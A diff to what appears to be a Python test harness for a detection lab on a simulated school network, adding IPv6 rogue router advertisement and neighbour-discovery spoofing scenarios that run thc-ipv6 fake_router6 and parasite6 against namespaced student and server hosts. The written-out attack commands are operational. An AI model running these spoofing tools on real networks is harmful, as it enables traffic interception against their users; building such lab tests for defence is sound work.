@@ -15,7 +15,7 @@ from dataclasses import dataclass, field
 
 from tests.lab.lan import IF, LAN, TUNNEL_DOMAIN, Host, SchoolLan
 
-SERVER6, ATTACKER6 = "fd77::10", "fd77::66"
+SERVER6, ATTACKER6, STUDENT6 = "fd77::10", "fd77::66", "fd77::101"
 
 PASSWORDS = [
     "123456",
@@ -534,6 +534,98 @@ def rogue_dhcp(lan: SchoolLan, small: bool = False) -> Outcome:
     )
 
 
+# --------------------------------------------------------------------- IPv6 first hop
+def _link_local(lan: SchoolLan, host: Host) -> str:
+    out = lan.sh("ip", "-n", host.ns, "-6", "-o", "addr", "show", "dev", IF, "scope", "link")
+    return out.split()[3].split("/")[0] if out.strip() else ""
+
+
+def rogue_ra(lan: SchoolLan, small: bool = False) -> Outcome:
+    """fake_router6 on the attacker; student 1 (IPv6 on, taking router advertisements)
+    solicits routers, takes the rogue prefix and pings the attacker over it."""
+    a, victim = lan.attacker, lan.students[0]
+    lan.ipv6(a, ATTACKER6)
+    lan.ipv6(victim, STUDENT6)
+    prefix = "fd77:bad::/64"
+    args = [IF, prefix]
+    try:
+        time.sleep(2)  # DAD of the link-local addresses
+        lan.attack_started = time.monotonic()
+        tool = lan.start(
+            a.ns, "fake_router6", "timeout", "-s", "INT", "12", "atk6-fake_router6", *args
+        )
+        time.sleep(1)
+        lan.run(victim.ns, "sysctl", "-qw", f"net.ipv6.conf.{IF}.accept_ra=2")
+        lan.run(victim.ns, "ip", "link", "set", IF, "down")  # up again: router solicitations
+        lan.run(victim.ns, "ip", "link", "set", IF, "up")
+        time.sleep(6)
+        route = lan.run(victim.ns, "ip", "-6", "route", "show", "default").stdout.strip()
+        tool.wait(timeout=20)
+        link_local = _link_local(lan, a)
+    finally:
+        lan.ipv6(victim, None)
+        lan.ipv6(a, None)
+    return Outcome(
+        "rogue_ra",
+        ("rogue_ra",),
+        "timeout -s INT 12 atk6-fake_router6 " + " ".join(args),
+        f"thc-ipv6 fake_router6: the attacker announces itself as IPv6 router for {prefix} "
+        "(router advertisements every few seconds, answers to solicitations); student 1 "
+        "with IPv6 on takes its default route from it",
+        a,
+        "thc-ipv6",
+        notes={"attacker_ip6": link_local, "victim_default_route": route},
+    )
+
+
+def nd_spoof(lan: SchoolLan, small: bool = False) -> Outcome:
+    """parasite6 on the attacker answers every neighbour solicitation with its own MAC
+    while student 1 and the server ping each other over IPv6 (their neighbour caches
+    flushed every few seconds, so that they ask again, as after an idle spell)."""
+    a, victim, srv = lan.attacker, lan.students[0], lan.srv
+    lan.ipv6(a, ATTACKER6)
+    lan.ipv6(victim, STUDENT6)
+    lan.ipv6(srv, SERVER6)
+    seconds = 15
+    args = ["-l", IF]
+    procs = []
+    try:
+        time.sleep(2)
+        lan.attack_started = time.monotonic()
+        procs.append(
+            lan.start(
+                a.ns, "parasite6", "timeout", "-s", "INT", str(seconds), "atk6-parasite6", *args
+            )
+        )
+        time.sleep(1)
+        for host, peer in ((victim, SERVER6), (srv, STUDENT6)):
+            count = str(seconds)
+            procs.append(lan.start(host.ns, f"ping6-{host.name}", "ping", "-6", "-c", count, peer))
+        for _ in range(4):
+            time.sleep(3)
+            for host in (victim, srv):
+                lan.run(host.ns, "ip", "-6", "neigh", "flush", "dev", IF)
+        procs[0].wait(timeout=seconds + 10)
+    finally:
+        for proc in procs:
+            lan.stop(proc, signal.SIGINT)
+        lan.ipv6(srv, None)
+        lan.ipv6(victim, None)
+        lan.ipv6(a, None)
+    return Outcome(
+        "nd_spoof",
+        ("nd_spoof",),
+        f"timeout -s INT {seconds} atk6-parasite6 " + " ".join(args),
+        "thc-ipv6 parasite6: neighbour advertisements with the attacker's MAC (override "
+        "flag) answering every solicitation, resent every 5 s, while student 1 "
+        f"({STUDENT6}) and the server ({SERVER6}) ping each other, their neighbour "
+        "caches flushed every 3 s",
+        a,
+        "thc-ipv6",
+        notes={"attacker_ip6": ATTACKER6},
+    )
+
+
 # --------------------------------------------------------------------- DNS tunnel
 def dns_tunnel(lan: SchoolLan, small: bool = False) -> Outcome:
     """iodine through the school resolver, which forwards tunnel.test to the internet host."""
@@ -651,5 +743,7 @@ SCENARIOS = {
         Scenario("udp_flood", ("hping3",), udp_flood),
         Scenario("icmp_flood", ("hping3",), icmp_flood),
         Scenario("dhcp_starvation", ("dhcpstarv",), dhcp_starvation),
+        Scenario("rogue_ra", ("atk6-fake_router6", "ping"), rogue_ra),
+        Scenario("nd_spoof", ("atk6-parasite6", "ping"), nd_spoof),
     ]
 }
